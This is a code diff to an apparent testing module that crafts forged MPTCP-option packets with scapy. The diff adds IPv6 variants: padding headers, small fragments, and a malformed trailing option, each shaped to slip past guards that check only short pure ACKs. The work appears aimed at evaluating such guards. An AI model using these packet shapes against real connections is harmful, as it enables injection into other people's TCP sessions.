@@ -1,9 +1,10 @@
 """Packet shapes an attacker tries to get a forged MPTCP option accepted in.
 
 Each shape is a plain function of the forged pure ACK that ``attacks.segment_after``
-builds (scapy IP/TCP: the eavesdropped sequence numbers and timestamps, one MPTCP
-option after NOP NOP TIMESTAMP) and the option's bytes; it returns the packets to
-send. Linux acts on an MPTCP option in every one of these shapes (platform notes); a
+builds (scapy IP/TCP or IPv6/TCP: the eavesdropped sequence numbers and timestamps,
+one MPTCP option after NOP NOP TIMESTAMP) and the option's bytes; it returns the
+packets to send, in the base's family (IPv6's analogues of IPv4 options and fragments:
+a destination options header, a fragment header). Linux acts on an MPTCP option in every one of these shapes (platform notes); a
 guard that checks only short pure ACKs misses all but ``plain``. Sources: RFC 6181,
 RFC 7430 and the kernel's tcp_parse_options() (it stops at a malformed option, having
 used those before it; it ignores what follows EOL).
@@ -23,14 +24,26 @@ PAYLOAD = b"forged!!"
 def _with_options(base, options: list, **tcp_fields):
     """``base`` with its TCP options replaced (timestamps kept first) and fields changed."""
     from scapy.layers.inet import IP, TCP
+    from scapy.layers.inet6 import IPv6
 
     pkt = base.copy()
     ts = [o for o in pkt[TCP].options if o[0] in ("NOP", "Timestamp")]
     pkt[TCP].options = ts + options
     for name, value in tcp_fields.items():
         setattr(pkt[TCP], name, value)
-    del pkt[IP].len, pkt[IP].chksum, pkt[TCP].chksum, pkt[TCP].dataofs
+    if IP in pkt:
+        del pkt[IP].len, pkt[IP].chksum
+    else:
+        del pkt[IPv6].plen
+    del pkt[TCP].chksum, pkt[TCP].dataofs
     return pkt
+
+
+def _ip_class(pkt):
+    from scapy.layers.inet import IP
+    from scapy.layers.inet6 import IPv6
+
+    return IP if IP in pkt else IPv6
 
 
 def _opt(option: bytes) -> tuple:
@@ -43,13 +56,21 @@ def plain(base, option: bytes) -> list:
 
 
 def ip_options(base, option: bytes) -> list:
-    """Padded to 100 bytes and more: 40 bytes of IPv4 options (NOPs), and TCP NOPs."""
-    from scapy.layers.inet import IP, IPOption
+    """Padded to 100 bytes and more: 40 bytes of IPv4 options (NOPs), and TCP NOPs; in
+    IPv6, a 40-byte destination options header before the TCP header."""
+    from scapy.layers.inet import IP, TCP, IPOption
+    from scapy.layers.inet6 import HBHOptUnknown, IPv6, IPv6ExtHdrDestOpt
 
     pkt = tcp_nops(base, option)[0]
-    pkt[IP].options = [IPOption(b"\x01" * 39 + b"\x00")]
-    del pkt[IP].ihl
-    return [pkt]
+    if IP in pkt:
+        pkt[IP].options = [IPOption(b"\x01" * 39 + b"\x00")]
+        del pkt[IP].ihl
+        return [pkt]
+    ip = pkt[IPv6]
+    # Linux refuses more than 7 bytes of padding in a row (RFC 4942): the bulk is an
+    # experimental option (RFC 4727, 0x1e: skip it if unknown), which it skips.
+    padding = IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x1E, optdata=b"\0" * 36)])
+    return [IPv6(src=ip.src, dst=ip.dst, fl=ip.fl, hlim=ip.hlim) / padding / pkt[TCP]]
 
 
 def tcp_nops(base, option: bytes) -> list:
@@ -77,16 +98,17 @@ def malformed_after(base, option: bytes) -> list:
     raises on it must not let the packet through, as Linux has used the option before."""
     from scapy.layers.inet import IP, TCP
 
-    pkt = IP(bytes(_with_options(base, [_opt(option), (0xFE, b"")])))
-    ihl = pkt[IP].ihl * 4
+    layer = _ip_class(base)
+    pkt = layer(bytes(_with_options(base, [_opt(option), (0xFE, b"")])))
+    header = pkt[IP].ihl * 4 if layer is IP else 40
     raw = bytearray(bytes(pkt))
-    at = ihl + 20 + 12 + len(option)  # after NOP NOP TIMESTAMP and the option
+    at = header + 20 + 12 + len(option)  # after NOP NOP TIMESTAMP and the option
     if raw[at] != 0xFE:
         raise ValueError("unexpected option layout")
     raw[at + 1] = 0x7F
-    broken = IP(bytes(raw))
+    broken = layer(bytes(raw))
     del broken[TCP].chksum
-    return [IP(bytes(broken))]
+    return [layer(bytes(broken))]
 
 
 def rst(base, option: bytes) -> list:
@@ -114,11 +136,19 @@ def payload(base, option: bytes) -> list:
 
 
 def fragments(base, option: bytes) -> list:
-    """The pure ACK in IPv4 fragments of 8 bytes: Linux reassembles them and acts."""
-    from scapy.layers.inet import fragment
+    """The pure ACK in fragments of 8 (IPv4) or 24 (IPv6) bytes: Linux reassembles them
+    and acts. (It drops a first IPv6 fragment without the whole TCP header, RFC 7112: so
+    24 bytes, and the options are split between the fragments.)"""
+    from scapy.layers.inet import TCP, fragment
+    from scapy.layers.inet6 import IPv6, IPv6ExtHdrFragment, fragment6
 
     pkt = _with_options(base, [_opt(option)])
-    return fragment(pkt.__class__(bytes(pkt)), fragsize=8)
+    if IPv6 not in pkt:
+        return fragment(pkt.__class__(bytes(pkt)), fragsize=8)
+    ip = pkt[IPv6]
+    whole = IPv6(src=ip.src, dst=ip.dst, fl=ip.fl, hlim=ip.hlim) / IPv6ExtHdrFragment() / pkt[TCP]
+    # fragSize counts the 40-byte header and the 8-byte fragment header: 24 bytes of TCP each
+    return fragment6(IPv6(bytes(whole)), 72)
 
 
 SHAPES: dict[str, Callable] = {
